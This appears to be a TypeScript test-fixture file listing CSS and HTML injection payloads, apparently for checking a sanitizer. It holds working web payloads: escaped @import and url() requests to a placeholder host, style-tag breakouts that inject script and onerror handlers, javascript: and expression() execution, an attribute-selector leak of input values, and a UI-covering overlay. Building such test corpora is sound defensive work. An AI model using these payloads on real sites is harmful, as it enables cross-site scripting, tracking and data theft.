import type {Family} from "./family.js"

const style = (css: string) => `<p style="${css}">Bridge</p>`
const sheet = (css: string) => `<style>${css}</style><p class=a>Bridge</p>`

/// Style sheets and style attributes that ask for something, run something, or cover our controls.
export const styles: Family = ({run, host}) => [
  style(`background:url(http://${host}/a.png)`),
  style(`background-image:u\\72l(http://${host}/b.png)`),
  style(`background:\\75 rl('//${host}/c.png')`),
  style(`border-image:url(http://${host}/e.png) 1;border-width:1px;border-style:solid`),
  style(`cursor:url(http://${host}/f.cur),auto`),
  style(`content:url(http://${host}/g.png)`),
  style(`mask-image:url(http://${host}/h.svg#a)`),
  style(`--a:url(http://${host}/n.png);background:var(--a)`),
  style(`width:expression(${run})`),
  style(`-moz-binding:url(http://${host}/a.xml#x)`),
  style(`background:url(javascript:${run})`),
  style(`position:fixed;inset:0;z-index:99999;background:red`),
  style(`color:red\\}</style><script>${run}</script>`),
  sheet(`@import url(http://${host}/a.css);`),
  sheet(`@import "//${host}/b.css" screen;`),
  sheet(`@\\69mport 'http://${host}/c.css';`),
  sheet(`@font-face{font-family:a;src:url(http://${host}/a.woff2)} .a{font-family:a}`),
  sheet(`.a{background:url(http://${host}/o.png)}`),
  sheet(`@property --a{syntax:'<url>';inherits:true;initial-value:url(http://${host}/r.png)} .a{background:var(--a)}`),
  sheet(`:host,claim-card{display:none!important} input[value^=a]{background:url(http://${host}/s.png)}`),
  sheet(`.a{color:red;}<!-- </style><img src=data:, onerror=${run}> -->`),
  `<style media="all" onload=${run}>p{color:red}</style>`,
  `<style type="text/css;x" nonce=a>*{background:url(http://${host}/t.png)}</style>Bridge`,
  `<link rel=stylesheet href="data:text/css,*{background:url(http://${host}/u.png)}">Bridge`,
]
